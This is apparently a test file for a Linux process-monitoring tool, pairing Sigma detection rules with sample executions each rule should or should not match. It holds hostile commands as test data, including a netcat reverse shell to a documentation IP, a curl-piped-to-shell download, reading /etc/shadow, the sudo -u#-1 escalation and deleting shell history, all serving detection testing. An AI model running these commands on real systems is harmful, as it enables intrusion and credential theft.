# SPDX-License-Identifier: GPL-2.0-or-later
"""Rules of Sigma for Linux process creation, each with execs that it matches and others that come close."""

from typing import Any, NamedTuple

from execwatchd.ctl.ports import Entry
from tests.fakes.ctl import exec_entry


def ran(line: str, *argv: bytes, **fields: Any) -> Entry:
    """An exec of the words of a line, and further arguments, from a shell."""
    words = [word.encode() for word in line.split()] + list(argv)
    defaults: dict[str, Any] = {
        "EXE": b"/usr/bin/" + words[0].rpartition(b"/")[2],
        "PARENT_EXE": b"/usr/bin/bash",
        "PARENT_CMDLINE": b"bash",
        "UID": 1000,
    }
    return exec_entry(7, *words, **(defaults | fields))


class Case(NamedTuple):
    """A rule's detection, execs that it matches, and others that come close."""

    detection: str
    matches: list[Entry]
    others: list[Entry]


CASES = {
    "netcat with a program": Case(
        """
        selection:
            Image|endswith: [/nc, /ncat]
            CommandLine|contains: [' -e ', ' --exec ']
        condition: selection
        """,
        [ran("nc -e /bin/sh 192.0.2.1 4444"), ran("NC 192.0.2.1 -e sh", EXE=b"/opt/NC")],
        [ran("nc -l 4444"), ran("echo nc -e /bin/sh"), ran("rsync -e ssh a b")],
    ),
    "download into a shell": Case(
        """
        shell:
            Image|endswith: [/sh, /bash, /dash]
            CommandLine|contains|all: ['-c curl ', '| sh']
        condition: shell
        """,
        [ran("bash -c", b"curl -s https://192.0.2.1/x | sh"), ran("sh -c", b"curl x | sh")],
        [ran("bash -c", b"curl -o x https://192.0.2.1/x"), ran("bash -c", b"wget x | sh")],
    ),
    "base64 decoded": Case(
        """
        selection:
            Image|endswith: /base64
            CommandLine|contains: [' -d', ' --decode']
        condition: selection
        """,
        [ran("base64 -d"), ran("base64 --decode x"), ran("/usr/bin/base64 -di x")],
        [ran("base64 x"), ran("cat base64 -d")],
    ),
    "shell of a web server": Case(
        """
        selection:
            ParentImage|endswith: [/nginx, /apache2, /php-fpm8.2]
            Image|endswith: [/sh, /bash, /dash]
        condition: selection
        """,
        [
            ran("sh -c id", EXE=b"/usr/bin/dash", PARENT_EXE=b"/usr/sbin/apache2"),
            ran("bash", PARENT_EXE=b"/usr/sbin/nginx"),
        ],
        [ran("bash", PARENT_EXE=b"/usr/bin/sshd"), ran("cat x", PARENT_EXE=b"/usr/sbin/nginx")],
    ),
    "program in a directory for temporary files": Case(
        """
        selection:
            Image|startswith: [/tmp/, /var/tmp/, /dev/shm/]
        filter:
            ParentImage|endswith: /dpkg
        condition: selection and not filter
        """,
        [
            ran("x", EXE=b"/tmp/.x/x"),
            ran("x", EXE=b"/dev/shm/x", PARENT_EXE=b"/usr/bin/bash"),
            exec_entry(7, b"/tmp/x", FILENAME=b"/tmp/x"),  # whose parent isn't recorded, nor the file
        ],
        [ran("x", EXE=b"/tmp/x", PARENT_EXE=b"/usr/bin/dpkg"), ran("ls /tmp/x"), ran("x", EXE=b"/tmpx")],
    ),
    "sudo as user -1": Case(
        """
        selection:
            Image|endswith: /sudo
            CommandLine|contains: ['-u#-1', '-u#4294967295']
        condition: selection
        """,
        [ran("sudo -u#-1 id"), ran("/usr/bin/sudo -u#4294967295 id")],
        [ran("sudo -u#1000 id"), ran("sudo -u root id")],
    ),
    "password hashes read by a user": Case(
        """
        selection:
            CommandLine|contains: /etc/shadow
        filter:
            User: root
        condition: selection and not filter
        """,
        [ran("cat /etc/shadow"), ran("cp /etc/shadow /tmp", UID=4_000_000_000)],
        [ran("cat /etc/shadow", UID=0), ran("cat /etc/passwd")],
    ),
    "root in the web root": Case(
        """
        selection:
            User: ROOT
            LogonId: '0'
            CurrentDirectory|startswith: /var/www/
        condition: selection
        """,
        [ran("id", UID=0, CWD=b"/var/www/html")],
        [ran("id", UID=1000, CWD=b"/var/www/html"), ran("id", UID=0, CWD=b"/root"), ran("id", UID=0)],
    ),
    "crontab replaced": Case(
        """
        selection:
            Image|endswith: /crontab
        listing:
            CommandLine|endswith: ' -l'
        condition: selection and not listing
        """,
        [ran("crontab -"), ran("crontab -u root /tmp/x")],
        [ran("crontab -l"), ran("crontab -u root -l"), ran("vi crontab")],
    ),
    "history removed": Case(
        """
        selection:
            Image|endswith: [/rm, /shred, /truncate]
            CommandLine|contains: _history
        condition: selection
        """,
        [ran("rm -f /root/.bash_history"), ran("truncate -s 0 .zsh_history")],
        [ran("rm -f /root/.bash-history"), ran("cat .bash_history")],  # _ is no wildcard
    ),
    "download by a shell's one command": Case(
        """
        selection:
            Image|endswith: [/curl, /wget]
            ParentCommandLine|contains: 'sh -c curl'
        condition: selection
        """,
        [
            ran("curl x", PARENT_CMDLINE=b"/bin/sh -c 'curl x; id'"),
            ran("curl x", PARENT_CMDLINE=rb"bash -c $'curl x\012id\'s'"),
        ],
        [ran("curl x", PARENT_CMDLINE=b"/bin/sh -c 'echo curl'"), ran("curl x")],
    ),
    "ssh that forwards a port": Case(
        """
        selection:
            Image|endswith: /ssh
            CommandLine|re: ' -[fNT]*R ?[0-9]+:'
        condition: selection
        """,
        [ran("ssh -R 8080:localhost:80 192.0.2.1"), ran("ssh -fNR 22:x:22 y")],
        [ran("ssh -L 8080:localhost:80 192.0.2.1"), ran("ssh host ls -R")],
    ),
    "daemon's child in a session": Case(
        """
        selection:
            ParentProcessId: 1
            TerminalSessionId|gt: 2
        condition: selection
        """,
        [ran("x", SESSION=3, PPID=1)],
        [ran("x", SESSION=2, PPID=1), ran("x", SESSION=3, PPID=5), ran("x", PPID=1)],
    ),
    "no directory": Case(
        """
        selection:
            CurrentDirectory: null
            ProcessId: 7
        condition: selection
        """,
        [ran("x")],
        [ran("x", CWD=b"/")],
    ),
    "what isn't UTF-8 hides nothing": Case(
        """
        selection:
            Image|endswith: /nc
            CommandLine|contains: ' -e '
        condition: selection
        """,
        [
            ran("nc -e sh", b"\xff", EXE=b"/tmp/\xff/nc"),
            ran("nc -e sh", b"\xff", ARGV_RAW=b"nc\0-e\0sh\0\xff\0"),
        ],
        [ran("nc", b"\xff-e", b"sh")],
    ),
}
